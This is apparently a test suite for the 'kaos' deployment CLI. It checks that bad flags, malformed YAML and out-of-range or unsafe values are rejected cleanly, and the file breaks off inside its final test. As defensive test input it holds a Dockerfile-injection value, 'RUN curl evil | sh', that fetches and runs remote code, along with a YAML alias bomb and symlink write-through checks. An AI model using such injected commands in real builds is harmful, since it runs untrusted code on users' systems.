// Invalid input at the CLI level: each case must exit 2 with one clear line on stderr, print no
// YAML on stdout and write nothing (no --output-dir directory, no --create-yaml file).
import assert from 'node:assert/strict'
import {execFileSync} from 'node:child_process'
import {existsSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'

import {cliUnavailable, runCli, tempDir} from '../helpers/cli.js'
import {describeConcurrent, describeOrSkip} from '../helpers/mocha.js'

const skip = cliUnavailable()
const dir = tempDir('kaos-bad-input-')
after(() => rmSync(dir, {recursive: true, force: true}))

const MCP = (name: string, spec: string, extra = '') => `apiVersion: kaos.tools/v1alpha1\nkind: MCPServer\nmetadata:\n  name: ${name}\n${extra}spec:\n${spec}`

/** Files the cases read, written once. */
const files: Record<string, string> = {
  'unknown-spec-field.yaml': MCP('calc', '  runtime: rawpython\n  replica: 2\n'),
  'unknown-container-field.yaml': MCP('calc', '  runtime: rawpython\n  container:\n    imagePullPolice: Always\n'),
  'unknown-top-field.yaml': MCP('calc', '  runtime: rawpython\n') + 'statuz:\n  ready: true\n',
  'wrong-api-version.yaml': MCP('calc', '  runtime: rawpython\n').replace('kaos.tools/v1alpha1', 'kaos.tools/v1'),
  'unknown-kind.yaml': MCP('calc', '  runtime: rawpython\n').replace('kind: MCPServer', 'kind: McpServer'),
  'unknown-runtime.yaml': MCP('calc', '  runtime: rawpyton\n'),
  'custom-no-image.yaml': MCP('mine', '  runtime: custom\n'),
  'slack-no-env.yaml': MCP('slack', '  runtime: slack\n  container:\n    env:\n      - {name: SLACK_BOT_TOKEN, value: x}\n'),
  'invalid.yaml': 'apiVersion: kaos.tools/v1alpha1\nkind: MCPServer\nmetadata:\n  name: "calc\nspec:\n  runtime: rawpython\n',
  'empty.yaml': '# nothing here\n',
  'agent.yaml': 'apiVersion: kaos.tools/v1alpha1\nkind: Agent\nmetadata:\n  name: bot\nspec:\n  modelAPI: llm\n  model: gpt-4o\n',
  'proxy-no-config.yaml': 'apiVersion: kaos.tools/v1alpha1\nkind: ModelAPI\nmetadata:\n  name: llm\nspec:\n  mode: Proxy\n',
  'duplicates.yaml': `${MCP('a', '  runtime: rawpython\n  params: y\n')}---\n${MCP('a', '  runtime: rawpython\n  params: x\n')}`,
  'other-namespace.yaml': MCP('calc', '  runtime: rawpython\n', '  namespace: other\n'),
  'ok.yaml': MCP('calc', '  runtime: rawpython\n  params: "code: pass"\n'),
  'registry-unknown-field.yaml': 'runtimes:\n  rawpython:\n    type: python\n    imagee: team/rawpython:2\n',
  'registry-wrong-type.yaml': 'runtimes:\n  fast:\n    type: python\n    image: team/fast:1\n    port: eighty\n',
  'registry-no-image.yaml': 'runtimes:\n  fast:\n    type: python\n    description: forgot the image\n',
  'bad-name.yaml': MCP('Calc_Server', '  runtime: rawpython\n'),
  // What the API server would refuse, caught offline (the Kubernetes schema and the rules beyond it).
  'sidecar-no-name.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    containers:\n      - image: busybox:1.36\n'),
  'podspec-quantity.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    containers:\n      - name: mcp-server\n        resources: {limits: {memory: "1Gi!"}}\n'),
  'container-quantity.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  container:\n    resources: {limits: {cpu: "2 cores"}}\n'),
  'replicas-int32.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  replicas: 3000000000\n'),
  'podspec-int32.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    containers:\n      - name: side\n        image: busybox:1.36\n        ports: [{containerPort: 99999999999}]\n'),
  'podspec-unknown.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    nodeselector: {pool: tools}\n'),
  'podspec-enum.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    restartPolicy: Sometimes\n'),
  'sidecar-bad-image.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    containers:\n      - {name: side, image: "busybox:1.36\\nRUN x"}\n'),
  'sidecar-bad-name.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  podSpec:\n    containers:\n      - {name: Side_Car, image: busybox:1.36}\n'),
  'envfrom-name.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n  container:\n    envFrom:\n      - secretRef: {name: My_Secret}\n'),
  'uppercase-image.yaml': MCP('mine', '  runtime: custom\n  container:\n    image: Acme/Server:1\n'),
  'big-params.yaml': MCP('calc', `  runtime: rawpython\n  params: "${'x'.repeat(300 * 1024)}"\n`),
  'typo-and-missing.yaml': MCP('calc', '  runtme: rawpython\n'),
  'mode-weird.yaml': 'apiVersion: kaos.tools/v1alpha1\nkind: ModelAPI\nmetadata:\n  name: llm\nspec:\n  mode: Weird\n',
  'agent-dup-mcp.yaml': 'apiVersion: kaos.tools/v1alpha1\nkind: Agent\nmetadata:\n  name: bot\nspec:\n  modelAPI: llm\n  model: m\n  mcpServers: [calc, calc]\n',
  'bad-label.yaml': MCP('calc', '  runtime: rawpython\n  params: x\n', '  labels: {team: "a b"}\n'),
  'rawpython-no-params.yaml': MCP('calc', '  runtime: rawpython\n'),
  'registry-string-command.yaml': 'runtimes:\n  fast:\n    type: python\n    image: team/fast:1\n    command: python -m server\n',
  'registry-space-image.yaml': 'runtimes:\n  fast:\n    type: python\n    image: team/fast server:1\n',
  'bomb.yaml': `a: &a ["x","x","x","x","x","x","x","x","x"]\n${['b', 'c', 'd', 'e', 'f', 'g'].map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefg'[i]}`).join(',')}]`).join('\n')}\n`,
  'huge.yaml': `# ${'x'.repeat(5 * 1024 * 1024)}\n`,
}
mkdirSync(dir, {recursive: true})
for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text)
const f = (name: string) => join(dir, name)
// A folder with no documents, one with a bad document, a FIFO, an unreadable file.
mkdirSync(join(dir, 'no-docs'))
writeFileSync(join(dir, 'no-docs', 'notes.txt'), 'not a document\n')
mkdirSync(join(dir, 'docs'))
writeFileSync(join(dir, 'docs', 'a.yaml'), files['ok.yaml'])
writeFileSync(join(dir, 'docs', 'b.yml'), files['unknown-spec-field.yaml'])
execFileSync('mkfifo', [join(dir, 'fifo.yaml')])
writeFileSync(join(dir, 'unreadable.yaml'), files['ok.yaml'], {mode: 0o000})
const root = process.getuid?.() === 0

interface Case {
  name: string
  /** `{work}` is replaced by the case's own empty temporary folder. */
  args: string[]
  message: RegExp
  /** Add --output-dir and --create-yaml and check neither is written (default true for deploys). */
  outputs?: boolean
  input?: string
  cwd?: string
  /** Prepare the work folder (files that must survive unchanged, links, FIFOs). */
  setup?: (work: string) => void
  /** After the run: what must (not) be there. */
  after?: (work: string) => void
}

/** The names in a folder, to check nothing was added. */
const listing = (d: string) => (existsSync(d) ? readdirSync(d).sort() : [])

const cases: Case[] = [
  {name: 'non-DNS-1123 name (flags)', args: ['mcp', 'deploy', 'Bad_Name', '--runtime', 'rawpython'], message: /^NAME "Bad_Name": MCPServer: metadata\.name "Bad_Name" must be a DNS-1123 label/},
  {name: 'non-DNS-1123 name (file)', args: ['mcp', 'deploy', '-f', f('bad-name.yaml')], message: /bad-name\.yaml: MCPServer: metadata\.name "Calc_Server" must be a DNS-1123 label/},
  {name: 'too-long name', args: ['mcp', 'deploy', 'a'.repeat(54), '--runtime', 'rawpython'], message: /metadata\.name "a{54}" must be at most 53 characters/},
  {name: 'unknown field in spec', args: ['mcp', 'deploy', '-f', f('unknown-spec-field.yaml')], message: /unknown-spec-field\.yaml: MCPServer "calc": unknown field spec\.replica; did you mean replicas\?$/},
  {name: 'unknown field nested in container', args: ['mcp', 'deploy', '-f', f('unknown-container-field.yaml')], message: /MCPServer "calc": unknown field spec\.container\.imagePullPolice; did you mean imagePullPolicy\?$/},
  {name: 'unknown top-level field', args: ['mcp', 'deploy', '-f', f('unknown-top-field.yaml')], message: /unknown-top-field\.yaml: unknown field statuz/},
  {name: 'wrong apiVersion', args: ['mcp', 'deploy', '-f', f('wrong-api-version.yaml')], message: /apiVersion must be "kaos\.tools\/v1alpha1" \(got "kaos\.tools\/v1"\)/},
  {name: 'unknown kind, did you mean', args: ['mcp', 'deploy', '-f', f('unknown-kind.yaml')], message: /unknown kind "McpServer"; expected one of MCPServer, Agent, ModelAPI, MCPTool, MCPPrompt, MCPResource\. Did you mean "MCPServer"\?/},
  {name: 'unknown runtime, did you mean (file)', args: ['mcp', 'deploy', '-f', f('unknown-runtime.yaml')], message: /MCPServer "calc": spec\.runtime "rawpyton" is an unknown runtime\. Did you mean "rawpython"\? Known runtimes: rawpython, kubernetes, slack, fetch, memory, filesystem, github, discord, chroma, google-cloud, gateway, custom/},
  {name: 'unknown runtime, did you mean (flags)', args: ['mcp', 'deploy', 'calc', '--runtime', 'slak'], message: /spec\.runtime "slak" is an unknown runtime\. Did you mean "slack"\?/},
  {name: 'custom without container.image', args: ['mcp', 'deploy', '-f', f('custom-no-image.yaml')], message: /MCPServer "mine": runtime "custom" needs spec\.container\.image/},
  {name: 'slack without SLACK_TEAM_ID', args: ['mcp', 'deploy', '-f', f('slack-no-env.yaml')], message: /MCPServer "slack": runtime "slack" requires env SLACK_TEAM_ID /},
  {name: 'slack without any env (flags)', args: ['mcp', 'deploy', 'slack', '--runtime', 'slack'], message: /runtime "slack" requires env SLACK_BOT_TOKEN, SLACK_TEAM_ID/},
  {name: 'bad --env syntax', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--env', 'FOO'], message: /^--env "FOO" is not KEY=VALUE$/},
  {name: 'bad --secret-env', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--secret-env', 'TOKEN=nokey'], message: /^--secret-env TOKEN=nokey: expected SECRET\/KEY/},
  {name: 'invalid YAML, with the line', args: ['mcp', 'deploy', '-f', f('invalid.yaml')], message: /invalid\.yaml: invalid YAML at line \d+, column \d+: Missing closing "quote/},
  {name: 'missing -f file', args: ['mcp', 'deploy', '-f', f('nope.yaml')], message: /^-f .*nope\.yaml does not exist$/},
  {name: 'empty file', args: ['mcp', 'deploy', '-f', f('empty.yaml')], message: /empty\.yaml: no documents found$/},
  {name: 'empty stdin', args: ['mcp', 'deploy', '-f', '-'], message: /^<stdin>: no documents found$/, input: ''},
  {name: 'NAME and -f together', args: ['mcp', 'deploy', 'calc', '-f', f('ok.yaml')], message: /^give either NAME with flags or -f FILE, not both$/},
  {name: 'document flags next to -f', args: ['mcp', 'deploy', '-f', f('ok.yaml'), '--image', 'x:1'], message: /^--image cannot be combined with -f: the document is the whole specification$/},
  {name: 'neither NAME nor -f', args: ['mcp', 'deploy'], message: /^a NAME or -f FILE is required$/},
  {name: '--runtime missing with NAME', args: ['mcp', 'deploy', 'calc'], message: /^--runtime is required when no -f file is given$/},
  {name: 'Agent document given to kaos mcp deploy', args: ['mcp', 'deploy', '-f', f('agent.yaml')], message: /^Agent "bot" cannot be deployed with `kaos mcp deploy`$/},
  {name: 'MCPServer document given to kaos agent deploy', args: ['agent', 'deploy', '-f', f('ok.yaml')], message: /^MCPServer "calc" cannot be deployed with `kaos agent deploy`$/},
  {name: 'ModelAPI Proxy without proxyConfig', args: ['modelapi', 'deploy', '-f', f('proxy-no-config.yaml')], message: /ModelAPI "llm": mode Proxy needs spec\.proxyConfig\.models$/},
  {name: '--mode Weird', args: ['modelapi', 'deploy', 'llm', '--mode', 'Weird', '--model', 'x'], message: /^--mode must be Proxy or Hosted \(got "Weird"\)$/},
  {name: 'Hosted with two models', args: ['modelapi', 'deploy', 'local', '--mode', 'Hosted', '--model', 'a', '--model', 'b'], message: /^mode Hosted serves one model; give --model once$/},
  {name: 'agent without --model', args: ['agent', 'deploy', 'bot', '--model-api', 'llm'], message: /^--model-api and --model are required/},
  {name: 'duplicate names in one file', args: ['mcp', 'deploy', '-f', f('duplicates.yaml')], message: /^MCPServer "a" appears twice in the input$/},
  {name: 'metadata.namespace vs -n', args: ['mcp', 'deploy', '-f', f('other-namespace.yaml'), '-n', 'kaos-test'], message: /^MCPServer "calc": metadata\.namespace "other" does not match -n kaos-test$/},
  {
    name: 'registry file with an unknown field',
    args: ['mcp', 'deploy', '-f', f('ok.yaml'), '--registry', f('registry-unknown-field.yaml')],
    message: /^registry file:.*registry-unknown-field\.yaml: runtime "rawpython": unknown field imagee; did you mean image\?$/,
  },
  {
    name: 'registry file with a wrong type',
    args: ['system', 'runtimes', '--registry', f('registry-wrong-type.yaml')],
    message: /^registry file:.*registry-wrong-type\.yaml: runtime "fast": port "eighty" must be a number$/,
    outputs: false,
  },
  {
    name: 'registry file without an image',
    args: ['system', 'runtimes', '--registry', f('registry-no-image.yaml')],
    message: /^registry file:.*registry-no-image\.yaml: runtime "fast": image is required/,
    outputs: false,
  },
  {name: '--registry path missing', args: ['system', 'runtimes', '--registry', f('no-registry.yaml')], message: /^--registry .*no-registry\.yaml does not exist$/, outputs: false},
  {name: 'unknown flag', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--bogus'], message: /^Nonexistent flag: --bogus$/},
  {name: 'bad --dry-run value', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--dry-run=maybe'], message: /^Expected --dry-run=maybe to be one of: none, client, server$/},
  {name: 'bad -o value', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--dry-run', '-o', 'xml'], message: /Expected --output=xml to be one of: yaml, json/, outputs: false},

  // Never read without bound: special files, huge files, huge stdin, alias bombs.
  {name: '-f /dev/zero (a character device)', args: ['mcp', 'deploy', '-f', '/dev/zero'], message: /^-f \/dev\/zero is a character device, not a regular file$/},
  {name: '-f a FIFO', args: ['mcp', 'deploy', '-f', f('fifo.yaml')], message: /^-f .*fifo\.yaml is a FIFO \(named pipe\), not a regular file$/},
  {name: '-f a file above 4 MiB', args: ['mcp', 'deploy', '-f', f('huge.yaml')], message: /^-f .*huge\.yaml is larger than 4 MiB, the most kaos reads from one input$/},
  {name: 'stdin above 4 MiB', args: ['mcp', 'deploy', '-f', '-'], input: 'x'.repeat(5 * 1024 * 1024), message: /^standard input is larger than 4 MiB/},
  {name: '--params-file /dev/zero', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params-file', '/dev/zero'], message: /^--params-file \/dev\/zero is a character device, not a regular file$/},
  {name: '--registry /dev/zero', args: ['system', 'runtimes', '--registry', '/dev/zero'], message: /^--registry \/dev\/zero is a character device, not a regular file$/, outputs: false},
  {name: 'YAML alias bomb in -f', args: ['mcp', 'deploy', '-f', f('bomb.yaml')], message: /bomb\.yaml: invalid YAML: Excessive alias count/},
  {name: 'YAML alias bomb in --registry', args: ['system', 'runtimes', '--registry', f('bomb.yaml')], message: /bomb\.yaml: not valid YAML: Excessive alias count/, outputs: false},
  {name: '-f DIR with no documents', args: ['mcp', 'deploy', '-f', join(dir, 'no-docs')], message: /^-f .*no-docs is a folder with no \.yaml, \.yml, \.json files \(subfolders are read with -R\)$/},
  {name: '-f DIR names the bad file in it', args: ['mcp', 'deploy', '-f', join(dir, 'docs')], message: /docs\/b\.yml: MCPServer "calc": unknown field spec\.replica; did you mean replicas\?$/},
  {name: '-R without -f', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '-R'], message: /^-R reads the subfolders of -f FOLDER; give -f too$/},
  {name: '--output-dir under /proc does not spin', args: ['mcp', 'deploy', '-f', f('ok.yaml'), '--output-dir', '/proc/self/kaos-x/y'], outputs: false, message: /^cannot create --output-dir \/proc\/self\/kaos-x\/y: \/proc\/self\/kaos-x: the file system there does not allow new folders$/},
  {name: 'mcp init --dir under /proc does not spin', args: ['mcp', 'init', 'calc', '--dir', '/proc/self/kaos-x'], outputs: false, message: /^cannot create --dir \/proc\/self\/kaos-x: \/proc\/self\/kaos-x: the file system there does not allow new folders$/},

  // Rendered objects the API server would refuse: one line naming the document and the field, quoting the value.
  {name: 'podSpec sidecar without a name', args: ['mcp', 'deploy', '-f', f('sidecar-no-name.yaml')], message: /sidecar-no-name\.yaml: MCPServer "calc": spec\.podSpec\.containers\[0\]\.name is required \(Deployment mcpserver-calc\)$/},
  {name: 'podSpec quantity "1Gi!"', args: ['mcp', 'deploy', '-f', f('podspec-quantity.yaml')], message: /MCPServer "calc": spec\.podSpec\.containers\[0\]\.resources\.limits\.memory "1Gi!" is not a Kubernetes quantity/},
  {name: 'container quantity "2 cores"', args: ['mcp', 'deploy', '-f', f('container-quantity.yaml')], message: /MCPServer "calc": spec\.container\.resources\.limits\.cpu "2 cores" is not a Kubernetes quantity/},
  {name: 'replicas above int32 (file)', args: ['mcp', 'deploy', '-f', f('replicas-int32.yaml')], message: /MCPServer "calc": spec\.replicas 3000000000 must be at most 2147483647$/},
  {name: 'replicas above int32 (flag)', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--replicas', '3000000000'], message: /spec\.replicas 3000000000 must be at most 2147483647$/},
  {name: 'podSpec int32 out of range', args: ['mcp', 'deploy', '-f', f('podspec-int32.yaml')], message: /spec\.podSpec\.containers\[0\]\.ports\[0\]\.containerPort 99999999999 is out of range \(a 32-bit integer/},
  {name: 'podSpec unknown field, did you mean', args: ['mcp', 'deploy', '-f', f('podspec-unknown.yaml')], message: /podspec-unknown\.yaml: MCPServer "calc": unknown field spec\.podSpec\.nodeselector; did you mean nodeSelector\? \(Deployment mcpserver-calc\)$/},
  {name: 'podSpec enum value', args: ['mcp', 'deploy', '-f', f('podspec-enum.yaml')], message: /spec\.podSpec\.restartPolicy "Sometimes" must be Always, Never or OnFailure \(Deployment mcpserver-calc\)$/},
  {name: 'sidecar image with a newline', args: ['mcp', 'deploy', '-f', f('sidecar-bad-image.yaml')], message: /spec\.podSpec\.containers\[0\]\.image "busybox:1\.36\\nRUN x" contains white space/},
  {name: 'sidecar name not a DNS label', args: ['mcp', 'deploy', '-f', f('sidecar-bad-name.yaml')], message: /spec\.podSpec\.containers\[0\]\.name "Side_Car" must be a DNS-1123 label/},
  {name: '--image with a space', args: ['mcp', 'deploy', 'mine', '--runtime', 'custom', '--image', 'acme/server 1'], message: /spec\.container\.image "acme\/server 1" contains white space$/},
  {name: '--image with capitals in the repository', args: ['mcp', 'deploy', '-f', f('uppercase-image.yaml')], message: /spec\.container\.image "Acme\/Server:1" has capital letters/},
  {name: 'envFrom name not a DNS name (file)', args: ['mcp', 'deploy', '-f', f('envfrom-name.yaml')], message: /spec\.container\.envFrom\[0\]\.secretRef\.name "My_Secret" must be a DNS-1123 name/},
  {name: 'envFrom name not a DNS name (flag)', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--env-from-secret', 'My_Secret'], message: /envFrom\[0\]\.secretRef\.name "My_Secret" must be a DNS-1123 name/},
  {name: 'duplicate mcpServers (would be two MCP_SERVER_calc_URL)', args: ['agent', 'deploy', '-f', f('agent-dup-mcp.yaml')], message: /Agent "bot": spec\.mcpServers\[1\] "calc" is listed twice$/},
  {name: 'duplicate --mcp-server flags', args: ['agent', 'deploy', 'bot', '--model-api', 'llm', '--model', 'm', '--mcp-server', 'a', '--mcp-server', 'a'], message: /spec\.mcpServers\[1\] "a" is listed twice$/},
  {name: 'label value with a space', args: ['mcp', 'deploy', '-f', f('bad-label.yaml')], message: /metadata\.labels\.team "a b" is not a valid label value/},
  {name: 'annotations above 256 KiB (a large params)', args: ['mcp', 'deploy', '-f', f('big-params.yaml')], message: /big-params\.yaml: MCPServer "calc": Deployment mcpserver-calc: metadata\.annotations total \d+ KiB, above Kubernetes' limit of 256 KiB$/},
  {name: 'unknown field reported next to a missing one', args: ['mcp', 'deploy', '-f', f('typo-and-missing.yaml')], message: /typo-and-missing\.yaml: MCPServer "calc": unknown field spec\.runtme; did you mean runtime\?$/},
  {name: 'spec.mode quoted', args: ['modelapi', 'deploy', '-f', f('mode-weird.yaml')], message: /ModelAPI "llm": spec\.mode "Weird" must be Proxy or Hosted$/},

  // Runtimes that cannot start without params, and registry files that could not work.
  {name: 'rawpython without params (file)', args: ['mcp', 'deploy', '-f', f('rawpython-no-params.yaml')], message: /MCPServer "calc": runtime "rawpython" needs spec\.params \(its server cannot start without them\)$/},
  {name: 'rawpython without params (flags)', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython'], message: /^MCPServer "calc": runtime "rawpython" needs spec\.params/},
  {name: 'registry command as a string', args: ['system', 'runtimes', '--registry', f('registry-string-command.yaml')], outputs: false, message: /runtime "fast": command "python -m server" must be a list of strings/},
  {name: 'registry image with a space', args: ['system', 'runtimes', '--registry', f('registry-space-image.yaml')], outputs: false, message: /runtime "fast": image "team\/fast server:1" contains white space$/},

  // Bad paths: exit 2 with one line, never errno text.
  ...(root ? [] : [{name: '-f unreadable', args: ['mcp', 'deploy', '-f', f('unreadable.yaml')], message: /^-f .*unreadable\.yaml is not readable \(permission denied\)$/}]),
  {name: '--registry DIR', args: ['system', 'runtimes', '--registry', dir], outputs: false, message: /^--registry .* is a directory, not a regular file$/},
  {name: '--create-yaml onto a folder', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--dry-run', '--create-yaml', '{work}'], outputs: false, message: /^--create-yaml .* is a directory$/},
  {name: '--create-yaml into a missing folder', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--dry-run', '--create-yaml', '{work}/no/such/calc.yaml'], outputs: false, message: /^--create-yaml .*calc\.yaml: the folder .*no\/such does not exist$/},
  {
    name: '--create-yaml into a missing folder, next to --output-dir (neither written)',
    args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--output-dir', '{work}/out', '--create-yaml', '{work}/no/calc.yaml'],
    outputs: false,
    message: /^--create-yaml .*calc\.yaml: the folder .*no does not exist$/,
  },
  {
    name: '--create-yaml into a missing folder, without --dry-run (nothing deployed: no cluster is contacted)',
    args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--create-yaml', '{work}/no/calc.yaml'],
    outputs: false,
    message: /^--create-yaml .*calc\.yaml: the folder .*no does not exist$/,
  },
  {name: '--output-dir onto a file', args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--output-dir', '{work}/file'], outputs: false, setup: (w) => writeFileSync(join(w, 'file'), 'keep'), after: (w) => assert.equal(readFileSync(join(w, 'file'), 'utf8'), 'keep'), message: /^--output-dir .*file is a file, not a directory$/},
  {name: 'mcp init --dir FILE', args: ['mcp', 'init', 'calc', '--dir', '{work}/file'], outputs: false, setup: (w) => writeFileSync(join(w, 'file'), 'keep'), after: (w) => assert.deepEqual(listing(w), ['file']), message: /^--dir .*file is a file, not a directory$/},
  {name: 'corrupt .kaos/build.json', args: ['mcp', 'deploy', '--dry-run'], cwd: '{work}', outputs: false, setup: (w) => (mkdirSync(join(w, '.kaos')), writeFileSync(join(w, '.kaos', 'build.json'), '{"name": ')), message: /^the build record .*build\.json is not valid JSON: /},
  {name: '.kaos/build.json that is JSON null', args: ['mcp', 'deploy', '--dry-run'], cwd: '{work}', outputs: false, setup: (w) => (mkdirSync(join(w, '.kaos')), writeFileSync(join(w, '.kaos', 'build.json'), 'null')), message: /^the build record .*build\.json has no "name" and "image" strings$/},
  {name: '--registry given to mcp build', args: ['mcp', 'build', '--path', '{work}', '--registry', 'ghcr.io/acme'], outputs: false, message: /^kaos mcp build uses no runtime registry: --registry names runtime registry files on every kaos command$/},

  // Files: no overwrite without --force, no writing through symlinks, no injected Dockerfile lines.
  {
    name: '--create-yaml onto an existing file',
    args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--dry-run', '--create-yaml', '{work}/mine.yaml'],
    outputs: false,
    setup: (w) => writeFileSync(join(w, 'mine.yaml'), 'keep'),
    after: (w) => assert.equal(readFileSync(join(w, 'mine.yaml'), 'utf8'), 'keep'),
    message: /^refusing to overwrite .*mine\.yaml$/,
  },
  {
    name: '--output-dir with an existing kustomization.yaml',
    args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--output-dir', '{work}/out'],
    outputs: false,
    setup: (w) => (mkdirSync(join(w, 'out')), writeFileSync(join(w, 'out', 'kustomization.yaml'), 'keep')),
    after: (w) => assert.deepEqual(listing(join(w, 'out')), ['kustomization.yaml']),
    message: /^refusing to overwrite kustomization\.yaml in .*out$/,
  },
  {
    name: '--output-dir with a symlink to a file outside',
    args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--params', 'x', '--output-dir', '{work}/out', '--force'],
    outputs: false,
    setup: (w) => (writeFileSync(join(w, 'outside'), 'keep'), mkdirSync(join(w, 'out')), symlinkSync(join(w, 'outside'), join(w, 'out', 'deployment-mcpserver-calc.yaml'))),
    after: (w) => (assert.equal(readFileSync(join(w, 'outside'), 'utf8'), 'keep'), assert.deepEqual(listing(join(w, 'out')), ['deployment-mcpserver-calc.yaml'])),
    message: /^refusing to write .*deployment-mcpserver-calc\.yaml: it is a symbolic link \(kaos never writes through links\)$/,
  },
  {
    name: 'mcp init through a symlink',
    args: ['mcp', 'init', 'calc', '--dir', '{work}/p', '--force'],
    outputs: false,
    setup: (w) => (writeFileSync(join(w, 'outside'), 'keep'), mkdirSync(join(w, 'p')), symlinkSync(join(w, 'outside'), join(w, 'p', 'server.py'))),
    after: (w) => (assert.equal(readFileSync(join(w, 'outside'), 'utf8'), 'keep'), assert.deepEqual(listing(join(w, 'p')), ['server.py'])),
    message: /^refusing to write .*server\.py: it is a symbolic link/,
  },
  {
    name: 'mcp init onto existing files',
    args: ['mcp', 'init', 'calc', '--dir', '{work}/p'],
    outputs: false,
    setup: (w) => (mkdirSync(join(w, 'p')), writeFileSync(join(w, 'p', 'server.py'), 'keep')),
    after: (w) => (assert.equal(readFileSync(join(w, 'p', 'server.py'), 'utf8'), 'keep'), assert.deepEqual(listing(join(w, 'p')), ['server.py'])),
    message: /^refusing to overwrite server\.py in /,
  },
  {
    name: 'mcp build --base-image with a newline',
    args: ['mcp', 'build', '--path', '{work}', '--create-dockerfile', '--base-image', 'python:3.13-slim\nRUN curl evil | sh'],
    outputs: false,
    setup: (w) => writeFileSync(join(w, 'pyproject.toml'), '[project]\nname = "calc"\nversion = "0.1.0"\n'),
    after: (w) => assert.deepEqual(listing(w), ['pyproject.toml']),
    message: /^--base-image "python:3\.13-slim\\nRUN curl evil \| sh" contains white space$/,
  },
]

if (root) describe('bad input (as root)', () => it.skip('-f unreadable [skipped: root reads every file]'))

describeConcurrent('bad input exits 2 with one line and writes nothing', skip, 8, (it) => {
  it('has at least 80 cases', () => assert.ok(cases.length >= 80))
  for (const c of cases) {
    it(c.name, async () => {
      const work = tempDir('kaos-case-')
      try {
        const outDir = join(work, 'out')
        const saved = join(work, 'saved.yaml')
        const deploy = c.args[1] === 'deploy'
        const outputs = c.outputs ?? deploy
        c.setup?.(work)
        const before = listing(work)
        // The base-image case needs a real newline in the argument.
        const args = [...c.args.map((a) => a.replaceAll('{work}', work).replaceAll('\\n', '\n')), ...(outputs ? ['--output-dir', outDir, '--create-yaml', saved] : [])]
        const r = await runCli(args, {input: c.input, cwd: c.cwd?.replaceAll('{work}', work)})
        const show = `kaos ${args.join(' ')}\nexit ${r.code}\nstdout:\n${r.stdout}\nstderr:\n${r.stderr}`
        assert.equal(r.code, 2, show)
        assert.ok(r.error, `no "Error:" line\n${show}`)
        assert.match(r.error!, c.message, show)
        assert.equal(r.stdout, '', `stdout must stay empty\n${show}`)
        const errorLines = r.stderr.split('\n').filter((l) => /Error:/.test(l))
        assert.equal(errorLines.length, 1, `one error line\n${show}`)
        assert.doesNotMatch(r.stderr, /\n\s+at .*\.js:\d+/, `no stack trace\n${show}`)
        if (outputs) {
          assert.equal(existsSync(outDir), false, `--output-dir was created\n${show}`)
          assert.equal(existsSync(saved), false, `--create-yaml was written\n${show}`)
        }
        if (c.after) c.after(work)
        else assert.deepEqual(listing(work), before, `nothing may be written\n${show}`)
      } finally {
        rmSync(work, {recursive: true, force: true})
      }
    })
  }
})

describeConcurrent('--json errors', skip, 4, (it) => {
  const jsonCases = [
    {args: ['mcp', 'deploy', '-f', f('unknown-runtime.yaml'), '--dry-run'], message: /spec\.runtime "rawpyton" is an unknown runtime/},
    {args: ['mcp', 'deploy', 'Bad_Name', '--runtime', 'rawpython', '--dry-run'], message: /DNS-1123/},
    {args: ['modelapi', 'deploy', 'llm', '--mode', 'Weird', '--model', 'x'], message: /^--mode must be Proxy or Hosted/},
    {args: ['mcp', 'deploy', 'calc', '--runtime', 'rawpython', '--bogus'], message: /^Nonexistent flag: --bogus$/},
    {args: ['system', 'runtimes', '--registry', f('registry-no-image.yaml')], message: /runtime "fast": image is required/},
  ]
  for (const c of jsonCases) {
    it(`kaos ${c.args.slice(0, 3).join(' ')} … --json`, async () => {
      const r = await runCli([...c.args, '--json'])
      const show = `exit ${r.code}\nstdout:\n${r.stdout}\nstderr:\n${r.stderr}`
      assert.equal(r.code, 2, show)
      const out = JSON.parse(r.stdout)
      assert.deepEqual(Object.keys(out), ['error'], show)
      assert.equal(out.error.code, 'INVALID_INPUT')
      assert.equal(out.error.exit, 2)
      assert.equal(typeof out.error.message, 'string')
      assert.match(out.error.message, c.message)
      assert.ok(!out.error.message.includes('\n'), 'one-line message')
      if ('suggestions' in out.error) assert.ok(Array.isArray(out.error.suggestions))
      assert.doesNotMatch(r.stderr, /Error:/, `the error is reported once, as JSON\n${show}`)
    })
  }
})

describeOrSkip('deploy without --dry-run writes nothing on bad input', skip, () => {
  it('without --dry-run, --create-yaml is not written when the deploy fails', async () => {
    const work = tempDir('kaos-case-')
    try {
      const saved = join(work, 'saved.yaml')
